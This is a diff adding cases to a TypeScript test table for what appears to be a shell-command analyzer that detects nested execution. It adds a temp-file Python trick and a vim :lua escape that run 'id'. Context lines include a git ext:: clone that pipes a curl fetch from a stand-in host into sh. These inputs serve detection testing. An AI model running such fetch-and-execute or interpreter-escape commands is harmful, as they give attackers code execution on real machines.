@@ -147,6 +147,9 @@ const CASES: Array<[string, string[]]> = [
   ["git clone 'ext::sh -c curl% -s% x.example% |% sh'", ['git clone ext::sh -c curl% -s% x.example% |% sh', 'exec-arg:sh -c curl -s x.example | sh', 'shell-c:curl -s x.example', 'shell-c:sh']],
   ["gh alias set --shell co 'id; gh pr checkout \"$1\"'", ['gh alias set --shell co id; gh pr checkout "$1"', 'persisted:id', 'persisted:gh pr checkout ']],
   ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'persisted:make lint']],
+  // a file named by a variable the line cannot know is read back by the same name; vim's :lua is Lua
+  ['TF=$(mktemp); echo "import os; os.system(\'id\')" > $TF; python3 $TF', ['substitution:mktemp', "echo import os; os.system('id')", 'python3 $TF', 'interpreter:id']],
+  ["vim -c ':lua os.execute(\"id\")'", [`vim -c :lua os.execute("id")`, `exec-arg:lua -e os.execute("id")`, 'interpreter:id']],
   // a patch given inline runs what its containers or steps say
   [`kubectl patch task build -p '{"spec":{"steps":[{"name":"r","script":"make test"}]}}'`, ['kubectl patch task build -p {"spec":{"steps":[{"name":"r","script":"make test"}]}}', 'persisted:make test']],
   // a variable set to what a lookup prints holds that program
